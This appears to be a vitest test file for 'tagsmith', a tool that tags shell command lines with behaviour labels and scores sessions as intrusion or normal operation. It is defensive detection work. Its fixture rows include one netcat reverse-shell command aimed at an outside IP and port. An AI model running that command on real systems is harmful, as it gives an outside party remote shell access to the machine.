import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { freshFolder, linesOf, runTagsmith } from "./tagsmith-process.ts";

const reverseShell = "nc -e /bin/sh 203.0.113.10 4444";
const rows = [
  { session_id: "s1", cmdline: "whoami", behavior_tags: ["inspect_current_identity"], expected: "intrusion" },
  { session_id: "s1", cmdline: reverseShell, behavior_tags: ["spawn_reverse_shell"], expected: "intrusion" },
  { session_id: "s2", command: "cat /etc/hostname", behavior_tags: ["no_such_tag"], observation_id: "mine" },
  { session_id: "s2", cmdline: "" },
  { session_id: "s2", cmdline: "id \u0000 #é", behavior_tags: ["inspect_current_identity"] },
];
const texts = ["whoami", reverseShell, "cat /etc/hostname", "id \u0000 #é"];

const folder = freshFolder("commands");
const input = join(folder, "rows.ndjson");
const predictions = join(folder, "predictions.jsonl");

function parsed(text: string): ReturnType<typeof JSON.parse> {
  return text
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => JSON.parse(line));
}

beforeAll(async () => {
  writeFileSync(input, rows.map((row) => `${JSON.stringify(row)}\n`).join(""));
  const { code, err } = await runTagsmith(["label", "--input", input, "--output", predictions]);
  expect(code).toBe(0);
  expect(err).toMatch(/5 rows read, 1 of them without a text to label\.\n$/);
});

describe("tagsmith label", () => {
  it("writes a prediction row for every row with a text, in order, best label first", () => {
    const found = parsed(linesOf(folder, "predictions.jsonl").join("\n"));
    expect(found.map((row: { command: string }) => row.command)).toEqual(texts);
    expect(found.map((row: { observation_id: string }) => row.observation_id)).toEqual([
      ...["event:0", "event:1", "mine", "event:4"],
    ]);
    for (const { top_labels, session_id } of found) {
      expect(session_id).toMatch(/^s\d$/);
      const scores = top_labels.map(({ score }: { score: number }) => score);
      expect(scores).toHaveLength(5);
      expect(scores).toEqual([...scores].sort((a, b) => b - a));
    }
    expect(existsSync(`${predictions}.part`)).toBe(false);
  });

  it("gives the texts at the prompt the labels they have in a file", async () => {
    const { code, out } = await runTagsmith(["label", "--json", "--top-k", "5", ...texts.slice(0, 3)]);
    expect(code).toBe(0);
    const inFile = parsed(linesOf(folder, "predictions.jsonl").join("\n"));
    const labelsOf = (row: { top_labels: unknown }): unknown => row.top_labels;
    expect(parsed(out).map(labelsOf)).toEqual(inFile.slice(0, 3).map(labelsOf));
  });

  it("shows people the text, its labels and what the best one means", async () => {
    const { code, out } = await runTagsmith(["label", "--top-k", "2", "whoami"]);
    expect(code).toBe(0);
    const [text, best, second] = out.split("\n");
    expect(text).toBe("whoami");
    expect(best).toMatch(/^ {2}\* +[01]\.\d{3} +inspect_current_identity +\w+$/);
    expect(second).toMatch(/[01]\.\d{3} +\w+ +\w+$/);
  });
});

describe("tagsmith eval", () => {
  it("counts the gold tags that the predictions found", async () => {
    const { code, out } = await runTagsmith(["eval", "--gold", input, "--predictions", predictions, "--json"]);
    expect(code).toBe(0);
    const { rows: count, goldTags, metrics } = JSON.parse(out);
    expect([count, goldTags]).toEqual([4, 4]);
    const found = parsed(linesOf(folder, "predictions.jsonl").join("\n"));
    const hits = [0, 1, 3].filter((index) => {
      const labels = found[index].top_labels.map(({ label_id }: { label_id: string }) => label_id);
      return labels.includes(rows[index === 3 ? 4 : index]?.behavior_tags?.[0]);
    });
    expect(metrics.map(({ k }: { k: number }) => k)).toEqual([1, 3, 5]);
    expect(metrics[2].microRecall).toBeCloseTo(hits.length / 4, 9);
    expect(metrics[0].microRecall).toBeLessThanOrEqual(metrics[2].microRecall);
  });
});

describe("tagsmith score", () => {
  it("writes a verdict for each session, with its events and what speaks for it", async () => {
    const output = join(folder, "verdicts.jsonl");
    const args = ["score", "--input", input, "--predictions", predictions, "--output", output, "--json"];
    const { code, out } = await runTagsmith(args);
    expect(code).toBe(0);
    const verdicts = parsed(linesOf(folder, "verdicts.jsonl").join("\n"));
    expect(verdicts.map((row: { session_id: string; events: number }) => [row.session_id, row.events])).toEqual([
      ["s1", 2],
      ["s2", 3],
    ]);
    for (const { verdict, score, threshold, contributions } of verdicts) {
      expect(verdict).toBe(score >= threshold ? "intrusion" : "normal_operation");
      expect(contributions.length).toBeGreaterThan(0);
    }
    expect(JSON.parse(out)).toMatchObject({ sessions: 2, missing: 1, expected: 1 });
  });
});

describe("tagsmith normalize and tags", () => {
  it("shows what each document becomes, and by which mapping", async () => {
    const { code, out, err } = await runTagsmith(["normalize", "--input", input]);
    expect(code).toBe(0);
    expect(out.trimEnd().split("\n")).toHaveLength(rows.length);
    expect(out).toContain("line:2  event plain-row@1  session=linux||session_id|s1 (session_id)");
    expect(out).toContain("line:4  rejected mapping_text_missing:");
    expect(err).toMatch(/event by plain-row@1 +4\n/);
  });

  it("lists the vocabulary and finds tags in it", async () => {
    const [all, some] = await Promise.all([runTagsmith(["tags", "--json"]), runTagsmith(["tags", "reverse_shell"])]);
    expect(JSON.parse(all.out)).toHaveLength(361);
    expect(some.out).toMatch(/^spawn_reverse_shell +\w+ +\S.+/m);
    expect(some.out).not.toContain("inspect_current_identity  ");
  });
});

describe("tagsmith demo", () => {
  it("labels the bundled samples in seven files and finds intrusions among daily operations", async () => {
    const output = join(folder, "demo");
    mkdirSync(output);
    const { code, out, err } = await runTagsmith(["demo", "--json", "--output", output]);
    expect(err).toBe("");
    expect(code).toBe(0);
    const summary = JSON.parse(out);
    expect(summary.events).toBeGreaterThan(3_000);
    expect(Object.keys(summary.mappings).length).toBeGreaterThanOrEqual(5);
    expect(summary.sessions.intrusion).toBeGreaterThan(0);
    expect(summary.sessions.intrusion + summary.sessions.normal_operation).toBeGreaterThanOrEqual(40);
    expect(linesOf(output, "labels.ndjson")).toHaveLength(summary.events);
    const last = new Map(
      linesOf(output, "verdicts.ndjson").map((line) => {
        const { event, tagsmith } = JSON.parse(line);
        return [event?.id ?? tagsmith.id, tagsmith];
      }),
    );
    expect(last.size).toBe(summary.sessions.intrusion + summary.sessions.normal_operation);
  });
});
